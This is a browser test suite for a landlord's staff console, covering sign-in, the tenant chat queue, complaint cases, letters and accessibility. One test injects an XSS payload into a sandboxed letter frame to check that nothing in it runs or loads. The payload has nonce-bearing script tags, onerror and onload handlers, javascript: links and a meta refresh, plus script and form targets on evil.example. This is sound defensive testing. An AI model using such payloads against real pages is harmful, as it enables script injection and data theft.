/** The staff console in a real browser: what an officer sees, hears and does, with a keyboard, on a phone, by day and by night. */
import { mkdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import axe from 'axe-core'
import type { Browser, BrowserContext, Page } from 'playwright-core'
import type { AccountRecord } from '../../services/staff/accounts.ts'
import { closeBrowser, openBrowser } from '../support/browser.ts'
import { consoleSite, signIn } from '../support/consoleSite.ts'
import type { StaffWorld } from '../support/staffWorld.ts'

const TAGS = ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa', 'best-practice']
const SHOTS = process.env.SHOTS

let world: StaffWorld
let browser: Browser
let context: BrowserContext
let page: Page
let asked: string[]
let violations: string[]
let number = 0

beforeAll(async () => {
  world = await consoleSite()
  browser = await openBrowser()
}, 120_000)
afterAll(async () => {
  await closeBrowser()
  await world?.close()
})
beforeEach(async () => {
  asked = []
  violations = []
  await open({})
})
afterEach(() => context.close())

async function open(options: Parameters<Browser['newContext']>[0]): Promise<void> {
  await context?.close()
  context = await browser.newContext(options)
  page = await context.newPage()
  page.on('request', (request) => asked.push(new URL(request.url()).origin))
  page.on('console', (message) => {
    if (/Content Security Policy|Trusted|Permissions-Policy/i.test(message.text())) violations.push(message.text())
  })
  page.on('pageerror', (error) => violations.push(error.message))
}

async function enter(roles: Parameters<StaffWorld['hire']>[0]['roles'] = ['adviser'], teams: string[] = []) {
  const email = `console${++number}@meadowbrook.example`
  const account = await world.hire({ roles, teams, email })
  await signIn({ page, world, email })
  return account
}

async function breaches(): Promise<string[]> {
  await page.evaluate(axe.source)
  const found = await page.evaluate(
    async (tags) =>
      (globalThis as unknown as { axe: typeof axe }).axe.run({ runOnly: tags }).then((result) => result.violations),
    TAGS,
  )
  return found.map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html.slice(0, 160)).join(' | ')}`)
}

async function shot(name: string): Promise<void> {
  if (!SHOTS) return
  mkdirSync(SHOTS, { recursive: true })
  await page.screenshot({ path: join(SHOTS, `${name}.png`), fullPage: true })
}

const message = (author: 'tenant' | 'bot', text: string) => ({ author, body: { text } })
const talkOf = () =>
  world.talk({
    said: [
      message('tenant', 'My boiler is broken and nobody came'),
      message('bot', 'I am sorry. Shall I ask a colleague?'),
    ],
    language: 'pl',
  })
/** The page's policy forbids a waiting script of the test's own, so the test asks again and again. */
async function until(expression: string): Promise<void> {
  for (const end = performance.now() + 60_000; !(await page.evaluate(expression)); await sleep(50))
    if (performance.now() > end) throw new Error(`not within a minute: ${expression}`)
}

/** The next right step is offered, and it alone stands out. */
async function nextDeed(name: string): Promise<void> {
  const main = page.locator('.deeds button.main')
  await main.filter({ hasText: name }).waitFor()
  expect(await main.allTextContents()).toEqual([name])
}

const sideways = () => page.evaluate<number>('document.documentElement.scrollWidth - innerWidth')

describe('signing in', () => {
  test('works over plain http on this machine with the one kind of cookie, and a wrong password is said in words', async () => {
    const email = `console${++number}@meadowbrook.example`
    await world.hire({ roles: ['adviser'], email })
    await page.goto(`${world.origin}/staff`)
    await shot('sign-in')
    await page.getByLabel('Email').fill(email)
    await page.getByLabel('Password').fill('not the password')
    await page.keyboard.press('Enter')
    await page.getByText('The email or the password is not right.').waitFor()
    expect(await breaches()).toEqual([])
    await signIn({ page, world, email })
    const [cookie] = await context.cookies()
    expect(cookie).toMatchObject({ name: '__Host-heard', httpOnly: true, secure: true, sameSite: 'Strict', path: '/' })
    await page.getByRole('button', { name: 'Sign out' }).click()
    await page.getByRole('heading', { name: 'Sign in' }).waitFor()
    expect(await context.cookies()).toEqual([])
  })

  test('on the name localhost works as well', async () => {
    const email = `console${++number}@meadowbrook.example`
    await world.hire({ roles: ['adviser'], email })
    await page.goto(`http://localhost:${world.port}/staff`).catch(() => page.goto(`${world.origin}/staff`))
    await page.getByLabel('Email').fill(email)
    await page.getByLabel('Password').fill('four calm words here')
    await page.keyboard.press('Enter')
    await page.getByRole('button', { name: 'Sign out' }).waitFor()
  })

  test('with a password that somebody else made leads to a new one first', async () => {
    const email = `console${++number}@meadowbrook.example`
    await world.hire({ roles: ['adviser'], email, temporary: true })
    await page.goto(`${world.origin}/staff`)
    await page.getByLabel('Email').fill(email)
    await page.getByLabel('Password').fill('four calm words here')
    await page.keyboard.press('Enter')
    await page.getByLabel('Password you signed in with').fill('four calm words here')
    await page.getByLabel('New password').fill('password1234')
    await page.getByRole('button', { name: 'Save the password' }).click()
    await page.getByText('This password is easy to guess').waitFor()
    expect(await breaches()).toEqual([])
    await page.getByLabel('New password').fill('my own four words')
    await page.getByRole('button', { name: 'Save the password' }).click()
    await page.getByRole('heading', { name: 'Waiting for a person' }).waitFor()
  })

  test('that ended elsewhere is said, and what was seen is gone from the page', async () => {
    const { _id: id } = await talkOf()
    const account = await enter()
    await page.goto(`${world.origin}/staff#/conversation/${id}`)
    await page.getByText('My boiler is broken').waitFor()
    await world.staff.signIn.disable({ landlord: 'meadowbrook', id: account._id, by: 'a test' })
    // Whichever asks first finds it out: the page by itself, or whoever goes on.
    await page.evaluate("location.hash = '#/cases'")
    await page.getByText('You were signed out.').waitFor()
    expect(await page.getByText('boiler').count()).toBe(0)
    await page.reload()
    await page.getByRole('heading', { name: 'Sign in' }).waitFor()
  })
})

describe('the queue', () => {
  test('grows by itself: the count is in the title, and a tone is played', async () => {
    await page.addInitScript(`
      globalThis.tones = 0
      const { start } = OscillatorNode.prototype
      OscillatorNode.prototype.start = function (when) {
        globalThis.tones += 1
        return start.call(this, when)
      }
    `)
    await enter()
    await page.getByRole('heading', { name: 'Waiting for a person' }).click()
    await page.locator('.loading').waitFor({ state: 'detached' })
    const before = Number(/\((\d+)\)/.exec(await page.title())?.[1] ?? 0)
    await talkOf()
    await until(`document.title === '(${before + 1}) Staff'`)
    await until('globalThis.tones > 0')
    expect(await page.getByRole('link', { name: `Waiting (${before + 1})` }).count()).toBe(1)
    await page.getByRole('button', { name: 'Sound on' }).click()
    const tones = await page.evaluate('globalThis.tones')
    await talkOf()
    await until(`document.title === '(${before + 2}) Staff'`)
    expect(await page.evaluate('globalThis.tones')).toBe(tones)
  })

  test('shows danger first, in words and not in colour alone, and passes the checks', async () => {
    await world.talk({ alert: { at: world.now(), kind: 'danger' }, waiting: null, language: 'ur' })
    await world.talk({
      waiting: {
        since: new Date(world.now().getTime() - 3_900_000),
        team: 'repairs',
        reason: 'distress',
        urgent: true,
      },
      channel: 'sms',
    })
    await enter(['hate_officer'], ['hate-response'])
    await world.talk({
      audience: 'hate',
      waiting: { since: world.now(), team: 'hate-response', reason: 'sensitive', urgent: false },
      said: [message('tenant', 'x')],
    })
    await page.getByText('Restricted: Hate').waitFor()
    expect(await page.locator('.lines').first().locator('li').first().textContent()).toContain('Danger')
    expect(await breaches()).toEqual([])
    await shot('queue')
  })
})

describe('a conversation', () => {
  test('is taken, answered and handed back with the keyboard alone', async () => {
    const { _id: id, thread } = await talkOf()
    await enter()
    await page.goto(`${world.origin}/staff#/conversation/${id}`)
    await page.getByText('My boiler is broken').waitFor()
    await page.getByRole('button', { name: 'Take this conversation' }).focus()
    await page.keyboard.press('Enter')
    await page.getByText('You have this conversation.').waitFor()
    await page.getByLabel('Your reply').focus()
    await page.keyboard.type('I will send somebody today.')
    await page.keyboard.press('Control+Enter')
    await page.locator('.said.staff', { hasText: 'I will send somebody today.' }).waitFor()
    expect(await page.getByLabel('Your reply').inputValue()).toBe('')
    expect(await breaches()).toEqual([])
    await shot('conversation')
    await page.getByRole('button', { name: 'Hand back to the assistant' }).focus()
    await page.keyboard.press('Enter')
    await page.getByRole('heading', { name: 'How did it go?' }).waitFor()
    await page.keyboard.type('Settled')
    await page.keyboard.press('Tab')
    await page.getByRole('button', { name: 'Hand back', exact: true }).focus()
    await page.keyboard.press('Enter')
    await page.getByText('Handed back.').waitFor()
    expect(
      (await world.product.inbox.waiting({ landlord: 'meadowbrook', thread })).map(({ payload }) => payload.kind),
    ).toEqual(['released'])
  })

  test('taken by a colleague in the meantime says who has it', async () => {
    const { _id: id } = await talkOf()
    await enter()
    await page.goto(`${world.origin}/staff#/conversation/${id}`)
    const button = page.getByRole('button', { name: 'Take this conversation' })
    await button.waitFor()
    const other = await world.hire({ roles: ['manager'] })
    await page.route('**/api/staff/conversations/*/claim', async (route) => {
      await world.post({ as: await world.session(other), path: `/api/staff/conversations/${id}/claim` })
      await route.continue()
    })
    await button.click()
    await page.getByText(`${other.name} was quicker`).waitFor()
    expect(await page.getByLabel('Your reply').count()).toBe(0)
  })

  test('keeps a reply that could not be sent, and sends it once when pressed again', async () => {
    const { _id: id } = await talkOf()
    await enter()
    await page.goto(`${world.origin}/staff#/conversation/${id}`)
    await page.getByRole('button', { name: 'Take this conversation' }).click()
    await page.getByLabel('Your reply').fill('Only once please')
    let lost = 0
    await page.route('**/api/staff/conversations/*/reply', async (route) => {
      if (lost++ > 0) return await route.continue()
      // The server has it, the answer is lost on the way.
      await route.fetch()
      await route.abort()
    })
    await page.getByRole('button', { name: 'Send' }).click()
    await page.getByText('Not sent. Your text is still here.').waitFor()
    expect(await page.getByLabel('Your reply').inputValue()).toBe('Only once please')
    await page.getByRole('button', { name: 'Send' }).click()
    await page.getByText('Sent.', { exact: true }).waitFor()
    await page.locator('.said.staff').waitFor()
    expect(await page.locator('.said.staff', { hasText: 'Only once please' }).count()).toBe(1)
  })

  test('by text message tells what the reply costs before it is sent', async () => {
    const { _id: id } = await world.talk({
      channel: 'sms',
      said: [message('tenant', 'میرا بوائلر خراب ہے')],
      language: 'ur',
    })
    await enter()
    await page.goto(`${world.origin}/staff#/conversation/${id}`)
    await page.getByRole('button', { name: 'Take this conversation' }).click()
    await page.getByLabel('Your reply').fill('x'.repeat(161))
    await page.getByText('Text parts: 2').waitFor()
    expect(await page.evaluate("getComputedStyle(document.querySelector('.said.tenant .words')).direction")).toBe('rtl')
    await shot('conversation-sms')
  })

  test('with danger in it stays red until somebody says what was done', async () => {
    const { _id: id } = await world.talk({
      alert: { at: world.now(), kind: 'danger' },
      said: [message('tenant', 'there is a fire')],
    })
    await enter()
    await page.goto(`${world.origin}/staff#/conversation/${id}`)
    await page.getByLabel('What was done').selectOption('phoned_tenant')
    expect(await breaches()).toEqual([])
    await shot('alert')
    await page.getByRole('button', { name: 'Record it' }).click()
    await page.getByLabel('What was done').waitFor({ state: 'detached' })
  })

  test('shows a new message of the tenant without being asked', async () => {
    const conversation = await talkOf()
    await enter()
    await page.goto(`${world.origin}/staff#/conversation/${conversation._id}`)
    await page.getByText('My boiler is broken').waitFor()
    const section = conversation.sections[0]!
    const open = { section, key: world.product.sections.key(section)! }
    const row = world.product.transcript.row({
      conversation,
      open,
      position: 3,
      at: world.now(),
      author: 'tenant',
      body: { text: 'Are you there?' },
    })
    await world.product.transcript.model.collection.insertOne(row as never)
    await page.getByText('Are you there?').waitFor()
  })
})

type Body = Record<string, unknown> & { action: string }

/** Acts done by the API before the page is opened. */
async function acted({ id, by, acts }: { id: string; by: AccountRecord; acts: Body[] }): Promise<void> {
  const as = await world.session(by)
  const path = `/api/staff/cases/${id}`
  for (const body of acts) {
    const { version } = (await world.ask({ as, path })).body
    const done = await world.post({ as, path: `${path}/actions`, body: { ...body, version } })
    expect({ action: body.action, status: done.status, said: done.text }).toMatchObject({ status: 200 })
  }
}
const acknowledge: Body = {
  action: 'acknowledge',
  understanding: 'The boiler has been broken for weeks',
  outcomes: 'A working boiler',
}
const answerWith = ({ owner, by }: { owner: string; by: string }): Body => ({
  action: 'answer',
  points: [{ point: 'The boiler', finding: 'upheld', reasons: 'Three visits were missed.' }],
  remedies: [{ kind: 'act_on_delay', what: 'Put in a new boiler', by, owner, agreed: 'yes' }],
})

const toDo = (name: string) => page.getByRole('button', { name, exact: true })
const saved = () => page.getByRole('status').getByText('Saved.').waitFor()

describe('cases', () => {
  test('are listed with the overdue in words, opened and noted', async () => {
    const id = await world.openCase({ answers: { happened: 'Nobody came for three weeks', outcome: 'A date' } })
    world.pass(14 * 86_400_000)
    await world.openCase({ kind: 'service_request', type: 'repair', hazard: 'damp_mould' })
    await enter(['complaints_officer'])
    await page.getByRole('link', { name: 'Cases', exact: true }).click()
    await page.getByText('Overdue:').first().waitFor()
    expect(await breaches()).toEqual([])
    await shot('cases')
    await page.goto(`${world.origin}/staff#/case/${id}`)
    await page.getByText('Nobody came for three weeks').waitFor()
    await toDo('Add a note').click()
    await page.getByLabel('Note', { exact: true }).fill('Rang the tenant')
    await toDo('Save the note').click()
    await saved()
    await page.locator('.history').getByText('Rang the tenant').waitFor()
    // The keyboard is back on the button that it came from.
    expect(await page.evaluate('document.activeElement.textContent')).toBe('Add a note')
    expect(await breaches()).toEqual([])
    await shot('case')
  })

  test('changed by somebody else in the meantime say so and keep the words', async () => {
    const id = await world.openCase()
    await enter(['manager'])
    await page.goto(`${world.origin}/staff#/case/${id}`)
    await toDo('Add a note').click()
    const note = page.getByLabel('Note', { exact: true })
    await note.fill('My words')
    let first = true
    await page.route('**/api/staff/cases/*/actions', async (route) => {
      if (!first) return await route.continue()
      first = false
      await world.post({
        as: await world.session(await world.hire({ roles: ['manager'] })),
        path: `/api/staff/cases/${id}/actions`,
        body: { action: 'note', text: 'Theirs', version: 0 },
      })
      await route.continue()
    })
    await toDo('Save the note').click()
    await page.getByText('Somebody changed this case').waitFor()
    expect(await note.inputValue()).toBe('My words')
    await toDo('Save the note').click()
    await saved()
  })

  test('keep what was written while another form is looked at', async () => {
    const id = await world.openCase()
    await enter(['complaints_officer'])
    await page.goto(`${world.origin}/staff#/case/${id}`)
    await toDo('Add a note').click()
    await page.getByLabel('Note', { exact: true }).fill('Half a')
    await toDo('Acknowledge the complaint').click()
    expect(await page.getByLabel('Note', { exact: true }).count()).toBe(0)
    await toDo('Add a note').click()
    expect(await page.getByLabel('Note', { exact: true }).inputValue()).toBe('Half a')
  })

  test('that are no complaints are updated, reviewed again on a day, and found when that day is past', async () => {
    const id = await world.openCase({ kind: 'service_request', type: 'repair' })
    await enter()
    await page.goto(`${world.origin}/staff#/case/${id}`)
    await toDo('Record a review').click()
    await page.getByLabel('Look again on').fill('2027-03-30')
    await toDo('Save the review').click()
    await saved()
    await page.locator('.history').getByText('Next look: Tue, 30 Mar 2027').waitFor()
    await toDo('Record an early fix').click()
    await page.getByLabel('What was put right').fill('The part came, and we said sorry')
    await toDo('Save').click()
    // Without the word on complaining nothing is saved.
    expect(await page.evaluate("document.activeElement.id.endsWith('advised')")).toBe(true)
    await page.getByLabel('told that they can also complain').check()
    await toDo('Save').click()
    await saved()
    expect(await breaches()).toEqual([])
    await shot('request')
    const inList = async (): Promise<number> => {
      await page.locator('.loading').waitFor({ state: 'detached' })
      return await page.locator(`a[href="#/case/${id}"]`).count()
    }
    world.pass(25 * 86_400_000)
    await enter()
    await page.goto(`${world.origin}/staff#/cases`)
    const stale = page.waitForResponse((response) => response.url().includes('stale=true'))
    await page.getByLabel('To review now').check()
    await stale
    expect(await inList()).toBe(1)
    await page.goto(`${world.origin}/staff#/case/${id}`)
    await toDo('Record a review').click()
    await page.getByLabel('What you found').fill('All done')
    await toDo('Save the review').click()
    await saved()
    await page.getByRole('link', { name: 'Back to the cases' }).click()
    await page.getByLabel('To review now').waitFor()
    expect(await page.getByLabel('To review now').isChecked()).toBe(true)
    expect(await inList()).toBe(0)
  })
})

type Styling = { getComputedStyle(of: unknown): { backgroundColor: string } }

describe('a complaint', () => {
  test('is taken, acknowledged and answered with a remedy; its letter is read, printed and marked as sent', async () => {
    const id = await world.openCase({ answers: { happened: 'Nobody came for three weeks', outcome: 'A date' } })
    await enter(['complaints_officer'])
    await page.goto(`${world.origin}/staff#/case/${id}`)
    // The next right step is the first button, and the keyboard is all it takes.
    await nextDeed('Choose who deals with it')
    await page.locator('.deeds button.main').focus()
    await page.keyboard.press('Enter')
    await toDo('Save').focus()
    await page.keyboard.press('Enter')
    await saved()
    await nextDeed('Acknowledge the complaint')
    await toDo('Acknowledge the complaint').click()
    await page.getByLabel('How we understand the complaint').fill('The boiler has been broken for weeks')
    await page.getByLabel('What the tenant wants to happen').fill('A working boiler')
    expect(await breaches()).toEqual([])
    await shot('acknowledge')
    await toDo('Acknowledge').click()
    await page.locator('.state', { hasText: 'Acknowledged' }).waitFor()
    await page.locator('.history').getByText('The boiler has been broken for weeks').waitFor()
    await page.locator('.clocks').getByText('Done. Was due').waitFor()
    await toDo('Begin to look into it').click()
    await toDo('Begin').click()
    await page.locator('.state', { hasText: 'Investigating' }).waitFor()
    await nextDeed('Answer the complaint')
    await toDo('Answer the complaint').click()
    await page.getByLabel('The point').fill('The boiler')
    await page.getByLabel('Our decision').selectOption('upheld')
    await page.getByLabel('Reasons').fill('Three visits were missed.')
    await toDo('Answer').click()
    // What is wrong is put right: the letter says so before it is written.
    await page.getByText('It lacks: an apology or a promised step.').waitFor()
    await toDo('Add: Promise').click()
    await page.getByLabel('Kind', { exact: true }).selectOption('act_on_delay')
    await page.getByLabel('What', { exact: true }).fill('Put in a new boiler')
    await page.getByLabel('By when').fill('2027-06-30')
    await page.locator('form.act').getByText('Wed, 30 Jun 2027').waitFor()
    await page.getByLabel('Agreed with the tenant').selectOption('yes')
    expect(await breaches()).toEqual([])
    await shot('answer')
    await toDo('Answer').click()
    await page.locator('.state', { hasText: 'Answered, stage 1' }).waitFor()
    await page.getByText('Open: 1 of 1').waitFor()

    const letter = page.locator('section', { has: page.getByRole('heading', { name: 'Letters' }) })
    await letter.getByRole('button', { name: 'Read: Answer' }).click()
    const frame = page.locator('iframe.letter')
    expect(await frame.getAttribute('sandbox')).toBe('')
    const paper = page.frameLocator('iframe.letter')
    await paper.getByText('Put in a new boiler').waitFor()
    // In its own look, by the colours of the landlord: the page's security policy lets it have that and no more.
    const colour = await paper
      .locator('header')
      .evaluate((header) => (globalThis as unknown as Styling).getComputedStyle(header).backgroundColor)
    expect(colour).toBe('rgb(29, 79, 63)')
    expect(violations).toEqual([])
    expect(await breaches()).toEqual([])
    await shot('letter')
    const download = page.waitForEvent('download')
    await letter.getByRole('button', { name: 'Save as PDF to print: Answer' }).click()
    const file = await (await download).path()
    expect(readFileSync(file).subarray(0, 5).toString()).toBe('%PDF-')
    expect((await download).suggestedFilename()).toMatch(/^\w{3}-\w{3}-\w{4} \d{4}-\d\d-\d\d\.pdf$/)
    await letter.getByRole('button', { name: 'It has left: Answer' }).click()
    await page.locator('.history').getByText('Letter has left: Answer').waitFor()

    await page.getByRole('button', { name: 'Done: Put in a new boiler' }).click()
    await page.getByLabel('On what day').fill('2027-03-09')
    await page.getByLabel('How we know').fill('The tenant rang and said so')
    await toDo('Save').click()
    await page.getByText('Open: 0 of 1').waitFor()
    await shot('answered')
  }, 240_000)

  test('has letters in a frame in which no script runs, nothing is fetched and no link or form leads away', async () => {
    const id = await world.openCase()
    await acted({ id, by: await world.hire({ roles: ['complaints_officer'] }), acts: [acknowledge] })
    await enter(['complaints_officer'])
    await page.goto(`${world.origin}/staff#/case/${id}`)
    const nonce = await page.evaluate<string>("document.querySelector('script[nonce]').nonce")
    const mark = 'document.documentElement.dataset.hit = 1; parent.hit = 1; top.hit = 1'
    // Words are escaped as a letter is written; this one is spoilt on its way, and even knows the nonce of the page.
    const attack = `
      <script>${mark}</script>
      <script nonce="${nonce}">${mark}</script>
      <script nonce="${nonce}" src="https://evil.example/script.js"></script>
      <img src="https://evil.example/pixel" onerror="${mark}">
      <svg onload="${mark}"></svg>
      <meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
      <iframe srcdoc="<script nonce='${nonce}'>top.hit = 1</script>"></iframe>
      <p><a href="javascript:${mark}">Script link</a> <a href="https://evil.example/link">Link</a>
      <a href="https://evil.example/top" target="_top">Top link</a></p>
      <form action="https://evil.example/form"><button>Press</button></form>
      <p>The end of the letter</p>`
    const reached: string[] = []
    await context.route('https://evil.example/**', async (route) => {
      reached.push(route.request().url())
      await route.fulfill({ body: mark, contentType: 'text/javascript' })
    })
    await page.route('**/api/staff/cases/*/letters/*', async (route) => {
      const response = await route.fetch()
      const letter = (await response.json()) as { html: string }
      await route.fulfill({ response, json: { ...letter, html: letter.html.replace('</main>', `${attack}</main>`) } })
    })
    await page.getByRole('button', { name: 'Read: Acknowledgement' }).click()
    const paper = page.frameLocator('iframe.letter')
    await paper.getByText('The end of the letter').waitFor()
    await paper.getByText(acknowledge.understanding as string).waitFor()
    for (const name of ['Script link', 'Link', 'Top link']) await paper.getByText(name, { exact: true }).click()
    await paper.getByRole('button', { name: 'Press' }).click()
    await sleep(500)
    expect(await paper.getByText('The end of the letter').count()).toBe(1)
    expect(await page.evaluate('globalThis.hit')).toBeUndefined()
    for (const frame of page.frames())
      expect(await frame.evaluate('document.documentElement.dataset.hit').catch(() => undefined)).toBeUndefined()
    expect(reached).toEqual([])
    expect(page.url()).toBe(`${world.origin}/staff#/case/${id}`)
  })

  test('is given to a colleague, never to somebody of another landlord, and shows what was done late', async () => {
    const id = await world.openCase()
    world.pass(14 * 86_400_000)
    const chosen = await world.hire({ roles: ['complaints_officer'], teams: ['repairs'] })
    const named = await world.hire({ roles: ['adviser'], teams: ['neighbourhoods'] })
    const stranger = await world.hire({ roles: ['manager'], landlord: 'harbour-view' })
    await enter(['complaints_officer'])
    await page.goto(`${world.origin}/staff#/case/${id}`)
    await toDo('Choose who deals with it').click()
    const owner = page.getByLabel('Owner', { exact: true })
    await owner.locator(`option[value="${chosen._id}"]`).waitFor({ state: 'attached' })
    const offered = await owner.locator('option').allTextContents()
    expect(offered).toContain(`${chosen.name}, Complaints officer`)
    // Oneself is on top, after the empty line.
    expect(offered[1]).toMatch(/\(you\)$/)
    expect(offered.join()).not.toContain(stranger.name)
    expect(await breaches()).toEqual([])
    await owner.selectOption(chosen._id)
    await toDo('Save').click()
    await saved()
    await page.locator('.facts').getByText(chosen.name).waitFor()
    await page.getByText('More', { exact: true }).click()
    await toDo('Somebody must not deal with it').click()
    await page.getByLabel('Who', { exact: true }).selectOption(named._id)
    await page.getByLabel('Reason', { exact: true }).fill('The complaint is about them.')
    await toDo('Lock them out').click()
    await saved()
    await page.locator('.history').getByText(`Must not deal with it: ${named.name}`).waitFor()
    await acted({ id, by: chosen, acts: [acknowledge] })
    await page.locator('.clocks').getByText('Done late. Was due').waitFor()
    await toDo('Answer the complaint').click()
    await toDo('Add: Promise').click()
    await page.getByLabel('Who does it').selectOption(chosen._id)
  })

  test('is refused only when a manager approves what the officer proposed', async () => {
    const id = await world.openCase({ answers: { happened: 'My neighbour plays drums' } })
    await enter(['complaints_officer'])
    await page.goto(`${world.origin}/staff#/case/${id}`)
    await page.getByText('More', { exact: true }).click()
    await toDo('Propose to refuse it as a complaint').click()
    await page.getByLabel('Ground').selectOption('asb_or_tenancy_breach_report')
    await page.getByLabel('Reasons, for this complaint').fill('It is about the noise, not about what we did.')
    await page.getByLabel('Evidence').fill('Their own words')
    await page.getByLabel('What happens with it instead').fill('We look into the noise.')
    expect(await breaches()).toEqual([])
    await shot('refuse')
    await toDo('Propose').click()
    await page.getByText('Somebody else must approve what you proposed.').waitFor()
    expect(await page.getByRole('button', { name: /^Approve/ }).count()).toBe(0)
    await page.getByRole('button', { name: 'Sign out' }).click()
    await enter(['manager'])
    await page.goto(`${world.origin}/staff#/case/${id}`)
    await page.locator('.waiting').getByText('It is about the noise, not about what we did.').waitFor()
    expect(await breaches()).toEqual([])
    await shot('approve')
    await page.getByRole('button', { name: /^Approve/ }).click()
    await page.locator('form.act').getByRole('button', { name: 'Save' }).click()
    await page.locator('.state', { hasText: 'Refused as a complaint' }).waitFor()
    await page.getByRole('button', { name: 'Read: Refusal' }).waitFor()
    await page.getByText('Taken up there instead').waitFor()
    await saved()
    await until("document.activeElement.getAttribute('role') === 'status'")
    expect(await breaches()).toEqual([])
  })

  test('that is put off shows the first date, and after the date it is refused in words', async () => {
    const id = await world.openCase()
    const officer = await world.hire({ roles: ['complaints_officer'] })
    await acted({ id, by: officer, acts: [acknowledge] })
    const { body } = await world.ask({ as: await world.session(officer), path: `/api/staff/cases/${id}` })
    const due = (body.clocks as { name: string; dueDate: string }[])
      .filter(({ name }) => name === 'respond_stage_1')
      .map(({ dueDate }) => dueDate)
      .sort()[0]!
    const days = (count: number): string =>
      new Date(new Date(due).getTime() + count * 86_400_000).toISOString().slice(0, 10)
    const said = (date: string): string =>
      new Intl.DateTimeFormat('en-GB', { weekday: 'short', day: 'numeric', month: 'short', year: 'numeric' }).format(
        new Date(`${date}T12:00:00Z`),
      )
    await enter(['complaints_officer'])
    await page.goto(`${world.origin}/staff#/case/${id}`)
    const putOff = async (by: string): Promise<void> => {
      await toDo('Put the answer off').click()
      await page.getByLabel('New date of the answer').fill(by)
      await page.getByLabel('Reason', { exact: true }).fill('We wait for the part.')
      await page.getByLabel('When the tenant hears').fill(by)
      await toDo('Put it off').click()
    }
    await putOff(days(60))
    await page.getByText('This is longer than the limit.').waitFor()
    await toDo('Close without saving').click()
    await putOff(days(7))
    await page
      .locator('.clocks')
      .getByText(`First date: ${said(due)}`)
      .first()
      .waitFor()
    await page
      .locator('.clocks')
      .getByText(`Moved from ${said(due)} to ${said(days(7))}`)
      .first()
      .waitFor()
    world.pass(30 * 86_400_000)
    await enter(['complaints_officer'])
    await page.goto(`${world.origin}/staff#/case/${id}`)
    await putOff(days(40))
    await page.getByText('The date has passed').waitFor()
    await page.locator('.history').getByText('Tried to put the answer off, too late').waitFor()
  })
})

describe('the page', () => {
  test('asks no other site for anything, and its security policy refuses nothing of its own', async () => {
    const { _id: id } = await talkOf()
    await enter()
    await page.goto(`${world.origin}/staff#/conversation/${id}`)
    await page.getByText('My boiler is broken').waitFor()
    expect(new Set(asked)).toEqual(new Set([world.origin]))
    expect(violations).toEqual([])
  })

  test.each(['light', 'dark'] as const)('is usable at phone width, %s', async (colorScheme) => {
    const { _id: id } = await world.talk({
      said: [message('tenant', `A-long-word-${'without-any-place-to-break-'.repeat(4)}`)],
    })
    const opened = await world.openCase()
    const manager = await world.hire({ roles: ['manager'] })
    const later = (days: number): string =>
      new Date(world.now().getTime() + days * 86_400_000).toISOString().slice(0, 10)
    const answered = await world.openCase({ representative: true, language: 'ur' })
    const lesson = {
      action: 'evaluate',
      role: 'Heads of Service',
      causes: ['process', 'supplier'],
      lesson: 'Visits were not checked.',
      actions: [{ what: 'Check every visit', owner: manager._id, by: later(30) }],
    }
    await acted({
      id: answered,
      by: manager,
      acts: [acknowledge, answerWith({ owner: manager._id, by: later(20) }), lesson],
    })
    const early = { action: 'close_early', ground: 'suspected_fraud', reasons: 'The form was not theirs.' }
    await acted({ id: answered, by: await world.hire({ roles: ['complaints_officer'] }), acts: [early] })
    await open({ viewport: { width: 320, height: 640 }, colorScheme })
    await enter(['manager'])
    for (const [name, hash] of [
      ['queue', '#/queue'],
      ['conversation', `#/conversation/${id}`],
      ['cases', '#/cases'],
      ['case', `#/case/${opened}`],
      ['complaint', `#/case/${answered}`],
    ] as const) {
      await page.goto(`${world.origin}/staff${hash}`)
      await page.locator('main h1').waitFor()
      await page.locator('.loading').waitFor({ state: 'detached' })
      if (name === 'complaint') await page.getByText(lesson.lesson).first().waitFor()
      expect(await sideways()).toBeLessThanOrEqual(0)
      expect(await breaches()).toEqual([])
      await shot(`phone-${colorScheme}-${name}`)
    }
    await page.goto(`${world.origin}/staff#/case/${opened}`)
    await toDo('Acknowledge the complaint').click()
    expect(await sideways()).toBeLessThanOrEqual(0)
    expect(await breaches()).toEqual([])
    await shot(`phone-${colorScheme}-form`)
  })

  test('shows an administrator people and nothing that tenants wrote, and an auditor what was said without buttons to act', async () => {
    const { _id: id } = await talkOf()
    await enter(['auditor'])
    await page.goto(`${world.origin}/staff#/conversation/${id}`)
    await page.getByText('My boiler is broken').waitFor()
    expect(await page.locator('main button').count()).toBe(0)
    await page.getByRole('button', { name: 'Sign out' }).click()
    await enter(['administrator'])
    await page.getByRole('heading', { name: 'People' }).waitFor()
    expect(await page.getByRole('link', { name: 'Cases' }).count()).toBe(0)
  })
})
